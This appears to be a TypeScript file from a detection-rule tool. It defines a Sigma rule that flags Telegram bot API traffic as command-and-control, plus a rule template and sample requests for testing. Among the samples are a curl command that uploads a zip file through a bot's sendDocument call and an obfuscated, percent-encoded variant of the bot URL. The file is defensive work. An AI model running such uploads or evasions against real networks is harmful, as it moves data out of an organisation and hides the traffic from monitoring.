// The first content of the page, unless a link has another.
export const RULE = `title: Telegram bot API
id: 5ad9f5f0-7a3e-4b3e-9b8f-0c6c1c1f4a11
status: experimental
description: A client talks to the bot API of Telegram.
author: tidegate contributors
date: 2026-11-21
references:
    - https://core.telegram.org/bots/api
tags:
    - attack.command-and-control
    - attack.t1102.002
logsource:
    category: proxy
detection:
    selection:
        cs-host: api.telegram.org
        c-uri-stem|startswith: /bot
    condition: selection
falsepositives:
    - Bots that the organisation runs itself
level: medium
`;

/** A random UUID, also where the page is served without TLS and `randomUUID` is missing. */
function uuid(): string {
  const bytes = crypto.getRandomValues(new Uint8Array(16));
  bytes[6] = bytes[6]! & 0x0f | 0x40;
  bytes[8] = bytes[8]! & 0x3f | 0x80;
  const digits = [...bytes].map((byte) => byte.toString(16).padStart(2, '0')).join('');
  return digits.replace(/^(.{8})(.{4})(.{4})(.{4})/, '$1-$2-$3-$4-');
}

/** A new rule, for a person to fill in: it says in its findings what is missing. */
export const newRule = () => `title: New rule
id: ${uuid()}
status: experimental
description: What it finds, and why that matters.
author: Your name
date: ${new Date().toISOString().slice(0, 10)}
references:
    - https://example.org/
tags:
    - attack.command-and-control
    - attack.t1102
logsource:
    category: proxy
detection:
    selection:
        cs-host: example.org
    condition: selection
falsepositives:
    - Unknown
level: low
`;

/** Tokens of the right form, so that the shipped rules know them too. */
const TOKEN = '123456789:AAExampleExampleExampleExampleExample12';
export const REQUESTS = `https://api.telegram.org/bot${TOKEN}/sendDocument
https://API.telegram.org./%62ot${TOKEN}/getUpdates
curl -d @report.zip https://api.telegram.org/bot${TOKEN}/sendDocument
https://web.telegram.org/k/
https://pastebin.com/raw/Ab12Cd34
`;
